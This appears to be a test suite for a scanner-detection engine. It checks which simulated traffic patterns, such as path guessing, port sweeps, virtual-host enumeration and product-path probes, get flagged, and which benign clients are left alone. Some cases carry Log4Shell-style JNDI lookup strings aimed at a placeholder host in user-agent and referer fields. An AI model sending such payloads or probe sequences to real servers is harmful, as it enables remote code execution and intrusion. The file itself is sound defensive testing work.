import { describe, expect, test } from "vitest";
import { Outcome, TcpFlag } from "../../src/observations/vocabulary.ts";
import { DAY, HOUR, MINUTE, Scenario, SECOND } from "./scenario.ts";

const missing = { status: 404 };
const words = [
  "admin",
  "backup",
  "old",
  "test",
  "phpmyadmin",
  "console",
  "portal",
  "cgi",
  "secret",
  "dump",
  "shop",
  "beta",
];

/** Asks for every word as a path that is missing, a second apart. */
function guess(s: Scenario, source: string, atMs: number): void {
  for (const [i, word] of words.entries()) s.request(source, `/${word}`, atMs + i * SECOND, missing);
}

describe("scans that are found", () => {
  test("a word list, within four guesses once visitors have shown what exists", () => {
    const s = new Scenario();
    s.browse();
    guess(s, "203.0.113.7", HOUR);
    expect(s.isScanner("203.0.113.7")).toBe(true);
    expect(s.decidedAfter("203.0.113.7")).toBeLessThanOrEqual(4);
  });

  test("a word list on a site that nobody has visited yet", () => {
    const s = new Scenario();
    guess(s, "203.0.113.7", 0);
    expect(s.decidedAfter("203.0.113.7")).toBeLessThanOrEqual(4);
  });

  test("an attack in the user agent, at pages that everybody reads", () => {
    const s = new Scenario();
    s.browse();
    for (const [i, path] of ["/", "/pages/topic-a.html", "/pages/topic-b.html", "/pages/topic-c.html"].entries())
      s.request("203.0.113.7", path, HOUR + i * MINUTE, { agent: "\x24{jndi:ldap://203.0.113.7/a}" });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("attacks in referers, another with each request for the same page", () => {
    const s = new Scenario();
    s.browse();
    for (const [i, scheme] of ["ldap", "rmi", "dns"].entries())
      s.request("203.0.113.7", "/", HOUR + i * MINUTE, { referer: `\x24{jndi:${scheme}://203.0.113.7/a}` });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test.each([
    ["the default site", { status: 200, bytes: 612 }],
    ["nothing", { status: 404, bytes: 153 }],
  ])("names of virtual hosts that are answered with %s", (_, answer) => {
    const s = new Scenario();
    s.browse();
    for (let person = 1; person <= 20; person++)
      s.request(`198.18.1.${person}`, "/", HOUR + person * SECOND, { host: "www.example.org" });
    for (const [i, word] of [...words, ...words.map((each) => `${each}s`)].entries())
      s.request("203.0.113.7", "/", 2 * HOUR + i * SECOND, { ...answer, host: `${word}.example.org` });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("closed ports of one host", () => {
    const s = new Scenario();
    s.browse();
    for (const port of [23, 3306, 5432, 6379, 9200])
      s.contact("203.0.113.8", "198.51.100.10", port, HOUR + port, Outcome.refused);
    expect(s.isScanner("203.0.113.8")).toBe(true);
  });

  test("one port over unused addresses, denied by a firewall", () => {
    const s = new Scenario();
    for (let host = 1; host <= 6; host++)
      s.contact("203.0.113.9", `198.51.100.${host}`, 3389, host * SECOND, Outcome.denied);
    expect(s.isScanner("203.0.113.9")).toBe(true);
  });

  test("popular pages between the guesses do not hide it (the evasion of Threshold Random Walk)", () => {
    const s = new Scenario();
    s.browse();
    for (const [i, word] of words.entries()) {
      s.request("203.0.113.7", `/pages/topic-${"abcdefghijkl"[i]}.html`, HOUR + i * MINUTE);
      s.request("203.0.113.7", `/${word}`, HOUR + i * MINUTE + SECOND, missing);
    }
    expect(s.decidedAfter("203.0.113.7")).toBeLessThanOrEqual(10);
  });

  test("one guess a day over fourteen days", () => {
    const s = new Scenario();
    s.browse();
    for (let day = 0; day < 14; day++)
      s.request("203.0.113.7", `/${words[day % 12]}${day > 11 ? "x" : ""}`, day * DAY, missing);
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("a source that takes a new address of its /64 for every guess", () => {
    const s = new Scenario();
    s.browse();
    for (const [i, word] of words.entries())
      s.request(`2001:db8:77:1::${(i + 1).toString(16)}`, `/${word}`, HOUR + i * SECOND, missing);
    expect(s.isScanner("2001:db8:77:1::1")).toBe(false);
    expect(s.isScanner("2001:db8:77:1::/64")).toBe(true);
  });

  test("a host that lets every port through, swept port by port", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 20; i++)
      s.contact("203.0.113.7", "198.51.100.80", 1000 + 37 * i, HOUR + i * SECOND, Outcome.admitted);
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("a word list on a site that redirects what it does not have, and whose new pages visitors read", () => {
    const s = new Scenario();
    s.browse();
    for (let n = 0; n < 40; n++) {
      const reader = `192.0.2.${n + 100}`;
      for (const page of [
        "/",
        "/pages/topic-a.html",
        "/pages/topic-b.html",
        `/news-of-${"abcdefgh"[n % 8]}${"klmno"[n % 5]}`,
      ])
        s.request(reader, page, HOUR + n * MINUTE);
    }
    for (let i = 0; i < 24; i++)
      s.request("203.0.113.7", `/${words[i % 12]}${i < 12 ? "" : "-new"}`, 3 * HOUR + i * SECOND, { status: 302 });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("checks of one product after the other, on a site that answers all of them alike", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 10; i++) s.request("192.0.2.9", `/old-${words[i]}`, HOUR + i * SECOND, { status: 302 });
    const checks = [
      "/actuator/env",
      "/solr/admin/",
      "/owa/auth/logon.aspx",
      "/.git/config",
      "/manager/html",
      "/remote/login",
    ];
    for (const [i, check] of checks.entries()) s.request("203.0.113.7", check, 2 * HOUR + i * MINUTE, { status: 302 });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("a word list on a site that wants a log-in for everything", () => {
    const s = new Scenario();
    s.browse();
    for (const [i, word] of words.entries()) s.request("203.0.113.7", `/${word}`, HOUR + i * SECOND, { status: 401 });
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });

  test("parameter names that nobody uses, on a page that always answers", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 60; i++)
      s.request("203.0.113.7", `/?${words[i % 12]}${"abcde"[Math.floor(i / 12)]}=1`, HOUR + i * SECOND);
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });
});

describe("visitors that are left alone", () => {
  test("people who miss a favicon, an icon and one page that moved", () => {
    const s = new Scenario();
    s.browse();
    for (let person = 1; person <= 30; person++) {
      for (const path of ["/favicon.ico", "/apple-touch-icon.png", "/pages/moved.html"])
        s.request(`198.18.1.${person}`, path, HOUR + person * SECOND, missing);
    }
    for (let person = 1; person <= 30; person++) expect(s.isScanner(`198.18.1.${person}`)).toBe(false);
  });

  test("people who follow old addresses of a site that redirects what it does not have", () => {
    const s = new Scenario();
    s.browse();
    for (let n = 0; n < 60; n++) {
      const reader = `192.0.2.${n + 100}`;
      for (const page of ["/", "/pages/topic-a.html", "/pages/topic-b.html"])
        s.request(reader, page, HOUR + n * MINUTE);
      for (let i = 0; i < 3; i++)
        s.request(reader, `/old-${words[(n + i * 5) % 12]}-${words[(n * 7) % 12]}`, HOUR + n * MINUTE + i * SECOND, {
          status: 302,
        });
    }
    for (let n = 0; n < 60; n++) expect(s.isScanner(`192.0.2.${n + 100}`)).toBe(false);
  });

  test("the owner of a home server opens one application after the other", () => {
    const s = new Scenario();
    const applications = [
      "grafana/login",
      "phpmyadmin/",
      "wp-login.php",
      "manager/html",
      "solr/admin/",
      "jenkins/login",
      "owa/",
    ];
    for (const [i, start] of applications.entries()) {
      s.request("203.0.113.20", `/${start}`, i * HOUR);
      for (const part of ["app.js", "app.css", "logo.svg", "menu.json"])
        s.request("203.0.113.20", `/${words[i]}/${part}`, i * HOUR + SECOND);
    }
    expect(s.isScanner("203.0.113.20")).toBe(false);
  });

  test("an app whose log-in had run out logs in again", () => {
    const s = new Scenario();
    s.browse();
    const parts = ["inbox", "orders", "profile", "messages"];
    for (const status of [401, 200])
      for (const [i, part] of parts.entries())
        s.request("203.0.113.20", `/api/${part}`, HOUR + status * MINUTE + i * SECOND, { status });
    expect(s.isScanner("203.0.113.20")).toBe(false);
    expect(s.scoreOf("203.0.113.20")).toBeLessThan(1);
  });

  test("somebody guessing passwords: many attempts on one path", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 500; i++)
      s.request("203.0.113.20", "/login", HOUR + i * SECOND, { status: 401, method: "POST" });
    expect(s.isScanner("203.0.113.20")).toBe(false);
  });

  test("somebody guessing passwords on every log-in there is", () => {
    const s = new Scenario();
    s.browse();
    for (const path of ["/login", "/admin/login", "/wp-login.php", "/user/login", "/account/signin"])
      for (let i = 0; i < 50; i++) s.request("203.0.113.20", path, HOUR + i * SECOND, { status: 401, method: "POST" });
    expect(s.isScanner("203.0.113.20")).toBe(false);
  });

  test("a monitor of one dead page, a load test", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 500; i++) {
      s.request("203.0.113.21", "/health-old", HOUR + i * MINUTE, missing);
      s.request("203.0.113.22", "/", HOUR + i);
    }
    expect(s.isScanner("203.0.113.21")).toBe(false);
    expect(s.isScanner("203.0.113.22")).toBe(false);
  });

  test("a sync client that runs past the last id", () => {
    const s = new Scenario();
    s.browse();
    for (let id = 1; id < 300; id++)
      s.request("203.0.113.23", `/api/items/${id}`, HOUR + id * SECOND, { status: id > 100 ? 404 : 200 });
    expect(s.isScanner("203.0.113.23")).toBe(false);
  });

  test("a crawler that meets broken links between the good ones", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 200; i++) {
      const name = `${words[i % 12]}-${words[(i * 5 + 3) % 12]}-${"abcdefghijklmnopq"[i % 17]}`;
      s.request("203.0.113.24", `/pages/${name}.html`, HOUR + i * SECOND, { status: i % 20 === 7 ? 404 : 200 });
    }
    expect(s.isScanner("203.0.113.24")).toBe(false);
  });

  test("a client with a stale list of servers is let go once it insists on them", () => {
    const s = new Scenario();
    s.browse();
    for (let round = 0; round < 12; round++)
      for (let host = 1; host <= 8; host++)
        s.contact(
          "203.0.113.25",
          `198.51.100.${100 + host}`,
          9092,
          HOUR + round * 30 * SECOND + host * SECOND,
          Outcome.denied,
        );
    expect(s.isScanner("203.0.113.25")).toBe(false);
  });

  test("a monitor that touches every service that exists, every minute", () => {
    const s = new Scenario();
    s.browse();
    for (let round = 0; round < 10; round++)
      for (let host = 10; host < 20; host++)
        for (const port of [22, 80, 443, 3306])
          s.contact("203.0.113.26", `198.51.100.${host}`, port, HOUR + round * MINUTE + host, Outcome.answered);
    expect(s.isScanner("203.0.113.26")).toBe(false);
  });

  test("a crawler of virtual hosts that few others visit", () => {
    const s = new Scenario();
    s.browse();
    for (let person = 1; person <= 20; person++)
      s.request(`198.18.1.${person}`, "/", HOUR + person * SECOND, { host: "www.example.org" });
    for (let site = 0; site < 15; site++) {
      const like = { host: `site-${"abcdefghijklmno"[site]}.example.org` };
      s.request("203.0.113.27", "/robots.txt", 2 * HOUR + site * MINUTE, { ...like, status: 404, bytes: 153 });
      s.request("203.0.113.27", "/", 2 * HOUR + site * MINUTE + SECOND, { ...like, bytes: 3000 + site * 571 });
    }
    expect(s.isScanner("203.0.113.27")).toBe(false);
  });

  test("a flood from a thousand spoofed sources, and the answers that come back to it", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 1000; i++) {
      const source = `198.18.${10 + (i >> 8)}.${i & 255}`;
      s.contact(source, "198.51.100.10", 443, HOUR + i, Outcome.answered);
      s.contact(
        "203.0.113.30",
        `198.51.100.${i & 255}`,
        1024 + i,
        HOUR + i,
        Outcome.unknown,
        TcpFlag.syn | TcpFlag.ack,
      );
      s.contact("203.0.113.31", `198.51.100.${i & 255}`, 1024 + i, HOUR + i, Outcome.denied, TcpFlag.rst);
    }
    expect(s.isScanner("203.0.113.30")).toBe(false);
    expect(s.isScanner("203.0.113.31")).toBe(false);
    expect(s.isScanner("198.18.10.7")).toBe(false);
  });

  test("an engineer's traceroute", () => {
    const s = new Scenario();
    s.browse();
    for (let i = 0; i < 60; i++) s.datagram("203.0.113.32", "198.51.100.10", 33_434 + i, HOUR + i * 50, Outcome.denied);
    expect(s.isScanner("203.0.113.32")).toBe(false);
  });

  test("an FTP client and its passive data ports", () => {
    const s = new Scenario();
    s.browse();
    s.contact("203.0.113.33", "198.51.100.60", 21, HOUR, Outcome.admitted);
    for (let i = 0; i < 20; i++)
      s.contact("203.0.113.33", "198.51.100.60", 40_000 + 7 * i, HOUR + i * MINUTE, Outcome.admitted);
    expect(s.isScanner("203.0.113.33")).toBe(false);
  });
});

describe("the sequential test", () => {
  test("scanners do not teach the estate: a second one finds the same paths as unknown as the first", () => {
    const alone = new Scenario();
    alone.browse();
    const after = new Scenario();
    after.browse();
    for (let k = 0; k < 20; k++) guess(after, `203.0.113.${100 + k}`, HOUR + k * MINUTE);
    for (const s of [alone, after]) guess(s, "203.0.113.7", 3 * HOUR);
    expect(after.decidedAfter("203.0.113.7")).toBe(alone.decidedAfter("203.0.113.7"));
  });

  test("a log that has no column for user agents says nothing of clients, one that has does", () => {
    const s = new Scenario();
    s.request("203.0.113.7", "/", 0, { agent: "" });
    expect(s.scoreOf("203.0.113.7")).toBe(0);
    s.request("192.0.2.9", "/", MINUTE);
    s.request("203.0.113.8", "/", 2 * MINUTE, { agent: "" });
    expect(s.scoreOf("203.0.113.8")).toBeGreaterThan(0.5);
  });

  test("suspicion fades by half in a week", () => {
    const s = new Scenario();
    s.browse();
    s.request("203.0.113.7", "/admin", DAY, missing);
    const first = s.scoreOf("203.0.113.7");
    s.request("203.0.113.7", "/pages/topic-a.html", 8 * DAY);
    expect(s.scoreOf("203.0.113.7")).toBeCloseTo(first / 2 - 0.25, 6);
  });

  test("a flood of sources is forgotten before a scanner is", () => {
    const s = new Scenario({ actorCeiling: 1024 });
    guess(s, "203.0.113.7", 0);
    for (let i = 0; i < 20_000; i++) s.request(`198.18.${i >> 8}.${i & 255}`, "/", MINUTE + i);
    expect(s.judge.actors.evicted).toBeGreaterThan(18_000);
    expect(s.isScanner("203.0.113.7")).toBe(true);
  });
});
